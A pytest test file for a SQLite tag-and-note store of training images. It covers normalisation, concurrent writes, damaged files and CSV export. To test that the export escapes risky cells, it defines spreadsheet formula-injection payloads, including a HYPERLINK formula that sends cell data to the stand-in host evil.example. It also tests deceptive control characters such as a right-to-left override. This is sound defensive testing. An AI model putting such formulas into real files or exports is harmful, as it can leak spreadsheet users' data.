"""The tag store (``training.runs.tags``): tags and notes of images in one SQLite file."""

import csv
import io
import re
import subprocess
import sys
from pathlib import Path

import pytest

from training.runs.layout import ArtifactError
from training.runs.tags import (
    SUGGESTED_TAGS,
    TAGS_FILE,
    ImageMark,
    TagError,
    TagStore,
    marks_csv,
    normalise_tag,
)

REPO = Path(__file__).resolve().parent.parent


def test_tags_and_notes_are_added_removed_and_kept_per_image(tmp_path):
    tags = TagStore(tmp_path)
    assert tags.marks() == {} and tags.mark("aachen", "a_1") is None and tags.version() == "0"
    assert not (tmp_path / TAGS_FILE).exists()  # reading creates nothing
    mark = tags.add_tag("aachen", "a_1", "  Small   Object ")
    assert mark.tags == ("small object",) and mark.note == "" and mark.updated.endswith("Z")
    tags.add_tag("aachen", "a_1", "reflection")
    tags.add_tag("aachen", "a_1", "reflection")  # twice: once
    tags.set_note("aachen", "a_1", "  a tree labelled building \n")
    tags.add_tag("bonn", "b_2", "border")
    reopened = TagStore(tmp_path)  # another process, later: the file holds everything
    assert reopened.mark("aachen", "a_1").tags == ("reflection", "small object")
    assert reopened.mark("aachen", "a_1").note == "a tree labelled building"
    assert set(reopened.marks()) == {("aachen", "a_1"), ("bonn", "b_2")}
    # an image left with neither tag nor note is no longer marked; removing twice is harmless
    reopened.remove_tag("bonn", "b_2", "BORDER")
    reopened.remove_tag("bonn", "b_2", "border")
    assert reopened.mark("bonn", "b_2") is None and set(reopened.marks()) == {("aachen", "a_1")}
    tags.set_note("aachen", "a_1", "")
    assert tags.mark("aachen", "a_1").note == ""


def test_tag_names_are_normalised_and_bad_ones_rejected_with_a_reason(tmp_path):
    assert normalise_tag("\tNight/Dark  ") == "night/dark"
    assert all(normalise_tag(tag) == tag for tag in SUGGESTED_TAGS)
    assert {"ground truth wrong", "reflection", "small object", "border"} <= set(SUGGESTED_TAGS)
    for bad, reason in (("   ", "empty"), ("a;b", "';'"), ("x" * 41, "at most 40"), (3, "text")):
        with pytest.raises(TagError, match=reason):
            normalise_tag(bad)
    tags = TagStore(tmp_path)
    with pytest.raises(TagError, match="city"):
        tags.add_tag("", "a_1", "border")
    with pytest.raises(TagError, match="at most"):
        tags.set_note("aachen", "a_1", "x" * 5000)
    assert tags.marks() == {}


def test_version_changes_with_every_write_and_csv_lists_every_mark(tmp_path):
    tags = TagStore(tmp_path)
    seen = [tags.version()]
    tags.add_tag("aachen", "a_1", "border")
    seen.append(tags.version())
    tags.set_note("bonn", "b_2", 'says "hi", twice\non two lines')
    seen.append(tags.version())
    tags.add_tag("aachen", "a_1", "glare")
    seen.append(TagStore(tmp_path).version())
    assert len(set(seen)) == 4
    other = TagStore(tmp_path / "other")  # another file after as many writes: another version
    for name in ("border", "glare", "shadow"):
        other.add_tag("aachen", "a_1", name)
    assert other.version().endswith(":3") and other.version() != seen[-1]
    rows = list(csv.DictReader(io.StringIO(tags.csv_text({("bonn", "b_2"): 7}))))
    assert list(rows[0]) == ["image_id", "city", "stem", "tags", "note", "updated"]
    assert [(r["image_id"], r["city"], r["tags"]) for r in rows] == [("7", "bonn", ""), ("", "aachen", "border; glare")]
    assert rows[0]["note"] == 'says "hi", twice\non two lines'



HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _read_back(cell: str) -> str:
    """A CSV cell as ``marks_csv`` documents reading it: one leading ``'`` dropped."""
    return cell[1:] if cell.startswith("'") else cell


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote_and_read_back(tmp_path):
    texts = [HYPERLINK, "+1+1", "-2", "@SUM(A1)", "\tpadded", "\rcarriage", "'quoted already", "plain = fine"]
    marks = [ImageMark("aachen", f"a_{n}", (text.lower(),), text, "2024-01-02T03:04:05Z")  # as old files may hold
             for n, text in enumerate(texts)]
    marks.append(ImageMark("=city", "+stem", (), "", "2024-01-02T03:04:05Z"))
    rows = list(csv.DictReader(io.StringIO(marks_csv(marks, {("aachen", "a_0"): 5}))))
    assert rows[0]["image_id"] == "5" and rows[0]["note"] == "'" + HYPERLINK
    for row in rows:
        for cell in (row["city"], row["stem"], row["tags"], row["note"]):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    back = {_read_back(row["stem"]): row for row in rows}  # the image with an id first, then by city
    assert [_read_back(back[f"a_{n}"]["note"]) for n in range(len(texts))] == texts
    assert [_read_back(back[f"a_{n}"]["tags"]) for n in range(len(texts))] == [text.lower() for text in texts]
    assert _read_back(back["+stem"]["city"]) == "=city" and rows[0]["updated"] == "2024-01-02T03:04:05Z"
    # the command line writes the same CSV
    store = TagStore(tmp_path / "artifacts")
    store.add_tag("aachen", "a_1", '=HYPERLINK("http://evil.example","x")')
    store.set_note("aachen", "a_1", HYPERLINK)
    out = tmp_path / "tags.csv"
    assert _tags_cli(["tags", "export", "--artifacts", str(tmp_path / "artifacts"), "--out", str(out),
                      "--data-root", str(tmp_path / "missing")]) == 0
    [row] = csv.DictReader(io.StringIO(out.read_text()))
    assert (row["tags"], row["note"]) == ('\'=hyperlink("http://evil.example","x")', "'" + HYPERLINK)


@pytest.mark.parametrize("text, named", [
    ("\u202etxt.exe", "U+202E RIGHT-TO-LEFT OVERRIDE"), ("nul\x00here", "U+0000"), ("zero\u200bwidth", "U+200B"),
    ("isolate\u2066x", "U+2066"), ("bell\x07", "U+0007"), ("escape\x1b[31m", "U+001B")])
def test_control_and_format_characters_are_refused_by_name(tmp_path, text, named):
    tags = TagStore(tmp_path)
    for write in (lambda: tags.add_tag("aachen", "a_1", text), lambda: tags.set_note("aachen", "a_1", text),
                  lambda: tags.add_tag("aachen", text, "border")):
        with pytest.raises(TagError, match=re.escape(named)):
            write()
    with pytest.raises(TagError, match=re.escape(named)):
        normalise_tag(text)
    assert tags.marks() == {} and not (tmp_path / TAGS_FILE).exists()


def test_a_note_keeps_its_lines_and_tabs(tmp_path):
    tags = TagStore(tmp_path)
    assert tags.set_note("aachen", "a_1", "first line\r\n\tsecond line\rthird").note == (
        "first line\n\tsecond line\nthird")
    assert tags.add_tag("aachen", "a_1", "two\twords\u2028here").tags == ("two words here",)  # blanks
    with pytest.raises(TagError, match="U[+]2028 LINE SEPARATOR"):
        tags.set_note("aachen", "a_1", "not\u2028a line")


WRITER = """
import sys
sys.path.insert(0, {repo!r})
from training.runs.tags import TagStore
import time
from pathlib import Path
store = TagStore(sys.argv[1])
print("ready", flush=True)
while not (Path(sys.argv[1]) / "go").exists():  # both start writing at the same moment
    time.sleep(0.01)
for i in range(25):
    store.add_tag("aachen", "a_1", f"{{sys.argv[2]}} {{i}}")
    store.set_note("aachen", f"note_{{sys.argv[2]}}", str(i))
"""


def test_two_processes_writing_at_once_both_keep_every_write(tmp_path):
    script = WRITER.format(repo=str(REPO))
    writers = [subprocess.Popen([sys.executable, "-c", script, str(tmp_path), name],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE) for name in ("left", "right")]
    assert [writer.stdout.readline() for writer in writers] == [b"ready\n"] * 2
    (tmp_path / "go").touch()
    errors = [writer.communicate(timeout=120)[1].decode() for writer in writers]
    assert [writer.returncode for writer in writers] == [0, 0], errors
    marks = TagStore(tmp_path).marks()
    assert set(marks[("aachen", "a_1")].tags) == {f"{name} {i}" for name in ("left", "right") for i in range(25)}
    assert marks[("aachen", "note_left")].note == marks[("aachen", "note_right")].note == "24"
    assert TagStore(tmp_path).version().endswith(f":{2 * 2 * 25}")


NEW_STORE_WRITER = """
import sys
sys.path.insert(0, {repo!r})
from training.runs.tags import TagStore
from pathlib import Path
print("ready", flush=True)
for line in sys.stdin:  # a folder without a store: both processes make its first write together
    folder = Path(line.strip())
    print("waiting", flush=True)
    while not (folder / "go").exists():  # no sleep: the two start within microseconds
        pass
    try:
        for i in range(3):
            TagStore(folder).add_tag("aachen", "a_1", f"{{sys.argv[1]}} {{i}}")
        print("ok", flush=True)
    except Exception as error:
        print(f"{{type(error).__name__}}: {{error}}", flush=True)
"""


def test_two_processes_making_a_new_store_at_once_both_write(tmp_path):
    """SQLite answers "locked" at once, without its busy timeout, to one of two connections that
    switch a new file to WAL together: before the store tried again, 4 runs of this test in 5
    failed."""
    script = NEW_STORE_WRITER.format(repo=str(REPO))
    writers = [subprocess.Popen([sys.executable, "-c", script, name], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                text=True) for name in ("left", "right")]
    try:
        assert [writer.stdout.readline() for writer in writers] == ["ready\n"] * 2
        for round_ in range(30):
            folder = tmp_path / str(round_)
            folder.mkdir()
            for writer in writers:
                writer.stdin.write(f"{folder}\n")
                writer.stdin.flush()
            assert [writer.stdout.readline() for writer in writers] == ["waiting\n"] * 2
            (folder / "go").touch()
            assert [writer.stdout.readline().strip() for writer in writers] == ["ok", "ok"], round_
            assert TagStore(folder).marks()[("aachen", "a_1")].tags == tuple(
                f"{name} {i}" for name in ("left", "right") for i in range(3))
    finally:
        for writer in writers:
            writer.stdin.close()
            writer.wait(timeout=30)
            writer.stdout.close()


@pytest.mark.parametrize("content", [b"not a database at all" * 100, None])
def test_a_damaged_or_foreign_file_is_named_and_left_alone(tmp_path, content):
    path = tmp_path / TAGS_FILE
    if content is None:  # a real SQLite file of some other program
        import sqlite3

        with sqlite3.connect(path) as other:
            other.execute("CREATE TABLE photos (name TEXT)")
        other.close()
    else:
        path.write_bytes(content)
    before = path.read_bytes()
    tags = TagStore(tmp_path)
    for action in (tags.marks, tags.version, lambda: tags.add_tag("aachen", "a_1", "border")):
        with pytest.raises(ArtifactError, match=f"{TAGS_FILE} .*move it away") as error:
            action()
        assert str(tmp_path) not in str(error.value)
    assert path.read_bytes() == before


def _tags_cli(argv: list[str]) -> int:
    """``python -m training tags ...`` as ``training.cli`` registers it (with its shared options)."""
    import argparse

    from training.cli.tags import add_tags_parser

    parser = argparse.ArgumentParser()
    add_tags_parser(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(argv)
    return args.handler(args)


def test_the_command_line_exports_the_tags_with_the_index_ids(tmp_path, tiny_root, capsys):
    from training.data.index import load_or_build_index

    entry = load_or_build_index(tiny_root, write=False, report=lambda message: None).entries[3]
    tags = TagStore(tmp_path / "artifacts")
    tags.add_tag(entry.city, entry.stem, "reflection")
    tags.set_note("gone", "gone_000001_000002", "an image of another dataset")
    out = tmp_path / "tags.csv"
    common = ["tags", "export", "--artifacts", str(tmp_path / "artifacts")]
    assert _tags_cli([*common, "--out", str(out), "--data-root", str(tiny_root)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert [(r["image_id"], r["stem"], r["tags"], r["note"]) for r in rows] == [
        (str(entry.id), entry.stem, "reflection", ""), ("", "gone_000001_000002", "", "an image of another dataset")]
    assert "wrote 2 tagged or noted images" in capsys.readouterr().err
    # no dataset: the rows all the same, without ids, and a warning; no --out: the standard output
    assert _tags_cli([*common, "--data-root", str(tmp_path / "missing")]) == 0
    printed = capsys.readouterr()
    assert [row["image_id"] for row in csv.DictReader(io.StringIO(printed.out))] == ["", ""]
    assert "no image ids" in printed.err
